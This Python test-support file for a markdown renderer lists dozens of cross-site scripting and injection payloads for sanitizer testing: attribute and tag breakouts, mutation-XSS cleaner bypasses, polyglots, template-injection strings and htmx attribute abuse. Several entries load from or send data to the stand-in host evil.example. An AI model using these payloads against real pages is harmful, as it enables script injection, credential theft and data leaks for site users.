"""Words that would run, load or send something if a page took them for more than words."""

from tests.markdown.attacks import ATTACKS

_MORE = [
    # Out of where words stand in our pages: an attribute, a title, a text field, a script, a style.
    '"><script>alert(1)</script>',
    "'><svg/onload=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    '" style="animation-name:spin" onanimationstart="alert(1)',
    '" accesskey="x" onclick="alert(1)" x="',
    '" srcdoc="<script>parent.alert(1)</script>" x="',
    '" formaction="javascript:alert(1)" x="',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea></form><form action=//evil.example/><input name=q>",
    "</option></select><img src=x onerror=alert(1)>",
    "</time></summary></template><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    # What a cleaner and a browser read in two ways.
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    '<listing>&lt;img src=x onerror="alert(1)"&gt;</listing>',
    "<img src='https://evil.example/?",
    "<a href='https://evil.example/'><font size=100 color=red>Click",
    "<img/src=x/onerror=alert(1)//",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<svg><set attributeName=href to=javascript:alert(1)><a id=x><text>x",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form>",
    "<div popover id=p onbeforetoggle=alert(1)></div><button popovertarget=p>x</button>",
    "<video autoplay onloadstart=alert(1) src=//evil.example/x.mp4>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<portal src=//evil.example onload=alert(1)>",
    "<link rel=prefetch href=//evil.example/>",
    "<img srcset='//evil.example/x 1x'>",
    "<table background=//evil.example/x><td background=//evil.example/y>",
    # For the scripts of our own pages.
    "<div hx-get=/sign-out hx-trigger=load hx-swap=outerHTML></div>",
    "<div data-hx-post=/sign-out data-hx-trigger=load></div>",
    "<div hx-on::load=alert(1) hx-trigger=load></div>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<meta name=htmx-script content=//evil.example/x.js>",
    "<a data-choose=javascript:alert(1) data-confirm=x href=javascript:alert(1)>x</a>",
    "<html class=awake data-theme=x><body id=pane class=desk>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${alert(1)}",
    "#{alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
    "\u2028<img src=x onerror=alert(1)>\u2029",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/"
    "[*/[]/+alert(1)//'>",
    '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/'
    "onmouseover=prompt(1)><script>prompt(1)</script>@gmail.com<isindex formaction=javascript:"
    "alert(/XSS/) type=submit>",
]
PAYLOADS = [*ATTACKS, *_MORE]


def lines(start: int = 0, most: int = 110) -> str:
    """*most* of them in one line, beginning with the one at *start*."""
    return " ".join(" ".join(payload.split()) for payload in _from(start)[:most])


def blocks(start: int = 0) -> str:
    """All of them, each in a paragraph of its own."""
    return "\n\n".join(_from(start))


def _from(start: int) -> list[str]:
    start %= len(PAYLOADS)
    return [*PAYLOADS[start:], *PAYLOADS[:start]]
